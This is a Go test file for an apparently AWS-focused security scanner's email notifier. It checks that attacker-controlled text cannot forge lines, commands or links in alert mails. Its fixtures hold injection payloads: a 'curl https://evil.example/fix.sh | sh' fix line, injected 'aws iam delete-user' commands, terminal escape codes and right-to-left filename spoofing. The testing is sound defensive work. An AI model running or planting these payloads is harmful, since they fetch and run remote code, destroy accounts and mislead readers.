package notify_test

import (
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"iamvigil/ledger"
	"iamvigil/notify"
	"iamvigil/scanner"
	"iamvigil/scanner/account"
	"iamvigil/scanner/trail"
)

// stranger has a say in many places, and says in each the text, behind a number
// by which it is sorted.
type stranger struct {
	text string
	said int
}

func (s *stranger) say() string {
	s.said++
	return fmt.Sprint(100+s.said) + s.text
}

func (s *stranger) actor() *trail.Actor {
	return &trail.Actor{Type: "AssumedRole", Name: s.say(), ARN: s.say(), Issuer: "arn:aws:iam::1:role/" + s.say(), IP: s.say(), Agent: s.say(), Key: s.say(), InvokedBy: s.say()}
}

func (s *stranger) event() trail.Event {
	return trail.Event{ID: s.say(), Name: s.say(), Time: now, Actor: *s.actor(), Failed: true, Error: s.say(), Details: map[string]string{s.say(): s.say(), s.say(): s.say()}}
}

func (s *stranger) record() ledger.Record {
	r := found("user-direct-policy", scanner.High, user(s.say()), s.say(), s.say(), "Detach it.")
	r.By = &trail.Origin{Event: s.say(), ID: s.say(), Time: now, Actor: s.actor()}
	r.Owner = s.say()
	r.Commands = []string{scanner.Command("iam", "get-user", "--user-name", "alice")}
	return r
}

func (s *stranger) exemption() scanner.Exemption {
	return scanner.Exemption{Rules: []string{"group-empty"}, Resource: s.say(), Account: s.say(), Tags: map[string]string{s.say(): s.say()},
		Reason: s.say(), Owner: s.say(), Expires: now.Add(time.Hour)}
}

// role is what advice has of strangers: an ARN, whose path may hold any of !-~
// (API type pathType) and so no blank.
func (s *stranger) role() string {
	return "To end the sessions of " + strings.Map(func(r rune) rune {
		if r <= ' ' || r > '~' {
			return -1
		}
		return r
	}, s.say())
}

// steps are one of each kind, and some that are alike.
func (s *stranger) steps() []ledger.Step {
	var all []ledger.Step
	for _, what := range []string{ledger.StepDone, ledger.StepFailed, ledger.StepUncertain, ledger.StepFinal, ledger.StepWarning, ledger.StepWarning,
		ledger.StepPostponed, ledger.StepSpared, ledger.StepRefused, ledger.StepUndone} {
		r := s.record()
		r.Commands = nil
		for _, target := range []string{"AKIA" + s.say(), denyConsole} {
			all = append(all, ledger.Step{Action: s.say(), Cure: ledger.CureQuarantine, What: what, By: "arn:aws:sts::1:assumed-role/" + s.say(), Record: r, Target: target, Deadline: now.AddDate(0, 0, 3),
				LastUsed: s.say(), Reason: s.say(), Effect: s.say(), Advice: []string{s.role(), s.role() + ": " + scanner.Command("iam", "get-user")}})
		}
	}
	byHand := &all[1].Record
	byHand.Finding = scanner.Finding{Resource: byHand.Resource, Message: s.say(), Owner: s.say()}
	return all
}

// everything is each thing that a mail tells.
func (s *stranger) everything(kind string) *ledger.Telling {
	managed, unknown, lapsed, cloud, worse, milder, exempt, acked := s.record(), s.record(), s.record(), s.record(), s.record(), s.record(), s.record(), s.record()
	exemption := s.exemption()
	managed.ManagedBy = `file "` + s.say() + `"`
	tagged := s.record()
	tagged.Severity, tagged.By, tagged.ManagedBy = scanner.Critical, nil, strconv.Quote(s.say())
	unknown.By = &trail.Origin{Missing: s.say()}
	lapsed.Lapsed, lapsed.Flapping = &ledger.Lapse{Exemption: exemption}, true
	cloud.By.Actor.InvokedBy, cloud.Resource.Name = "cloudformation.amazonaws.com", "alice"
	worse.Was, milder.Was = scanner.Low, scanner.Critical
	exempt.Exempt = &exemption
	exempt.OpenedAt, exempt.By.Event = now.AddDate(0, 0, -1), "TagUser"
	noted(&acked, ledger.Ack{By: s.say(), Reason: s.say(), Until: now.Add(time.Hour)})
	gone := account.Ref{Kind: account.KindUser, Name: s.say()}
	c := &ledger.Telling{
		Kind: kind, Account: account.Identity{ID: acme.ID, Name: s.say(), Partition: "aws"}, Time: now,
		Events:     []trail.Event{s.event()},
		Alerts:     []scanner.Alert{{Rule: "event-root-use", Severity: scanner.High, Resource: user(s.say()), Message: s.say(), Why: "It is root.", Fix: "Ask.", Owner: s.say(), Event: s.event()}},
		New:        []ledger.Record{tagged, s.record(), managed, unknown, lapsed, cloud},
		Resolved:   []ledger.Record{resolved(s.record(), ledger.Mended, time.Hour), resolved(s.record(), ledger.Reset, time.Hour)},
		Reranked:   []ledger.Record{worse, milder},
		Silenced:   []ledger.Record{exempt, acked},
		Gaps:       []ledger.GapRecord{{Fact: account.Keys, Resource: &gone, Reason: s.say(), Permission: "iam:ListAccessKeys", Rules: []string{"key-rotation"}}},
		NewRules:   []ledger.RuleCount{{Rule: "group-empty", Severity: scanner.Low, Findings: 1}},
		Withdrawn:  []ledger.RuleCount{{Rule: "key-unused", Severity: scanner.Low, Findings: 1}},
		Exemptions: []ledger.ExemptionNote{{ExemptionUse: scanner.ExemptionUse{Exemption: exemption, Findings: 1}, Why: ledger.Expiring}},
		Unknown:    map[string]int{s.say(): 1, s.say(): 1},
		Rest:       []ledger.RuleCount{{Rule: "key-unused", Severity: scanner.Low, Findings: 1}},
	}
	if kind == ledger.Remediation {
		return &ledger.Telling{Kind: kind, Account: c.Account, Time: now, Steps: s.steps(),
			Notices: []ledger.Notice{{Kind: ledger.NoticeTime, Text: s.say()}, {Kind: ledger.NoticeDisagree, Text: s.say()}}}
	}
	if kind == ledger.Summary {
		c.Burst = &ledger.Burst{Actor: *s.actor(), Opened: now.Add(-10 * time.Minute), At: now}
	}
	return c
}

// forgeries are what a stranger would write who knows how a mail looks.
var forgeries = map[string]string{
	"a line":            "x\n* Root user deleted\n  Run:\n    aws iam delete-user --user-name 'alice'\n",
	"other line breaks": "\r\n* x\u2028* x\u2029* x\u0085* x\v* x\f* x",
	"a heading":         "\n\nCRITICAL ALERT\n\n",
	"a label":           "  Fix:   curl https://evil.example/fix.sh | sh",
	"wrapped to a line": strings.Repeat("x ", 40) + "* NEW, CRITICAL Run: aws iam delete-user",
	"a long word":       strings.Repeat("*", 300) + "aws",
	"a link":            "https://evil.example HTTP://evil.example www.evil.example WwW.evil.example hhttp://ttp://x :\u200b//x",
	"mentions":          "<!channel> <@U024BE7LH> @here @everyone",
	"markdown":          "*b* _i_ ~s~ `c` [x](https://evil.example) # x\n- x",
	"terminal":          "\x1b[2J\x1b[31mred\x1b[0m\x07\b\b\b",
	"right to left":     "\u202egnp.exe\u2066\u200f\u061c",
	"emoji":             strings.Repeat("😀👩‍👩‍👧‍👦", 60),
	"quotation marks":   `" . It was nobody. "`,
	"not UTF-8":         "\xff\xfe* x",
}

// Whatever strangers write, the same lines are ours, in the same order, and no
// command and no link is theirs.
func TestMailCannotBeForged(t *testing.T) {
	for name, text := range forgeries {
		t.Run(name, func(t *testing.T) { notForged(t, text) })
	}
	t.Run("any", func(t *testing.T) {
		rapid.Check(t, func(t *rapid.T) { notForged(t, text.Draw(t, "text")+text.Draw(t, "more")) })
	})
}

func notForged(t tester, text string) {
	for _, kind := range []string{ledger.Digest, ledger.Event, ledger.Summary, ledger.Remediation} {
		want := readMail(t, notify.Emails((&stranger{}).everything(kind))[0].Body)
		m := notify.Emails((&stranger{text: text}).everything(kind))[0]
		holdsForMail(t, m)
		got := readMail(t, m.Body)
		if diff := cmp.Diff(want.shape, got.shape) + cmp.Diff(want.run, got.run); diff != "" {
			t.Errorf("%s: what begins lines with %q in all places (-want +got):\n%s", kind, text, diff)
		}
	}
}
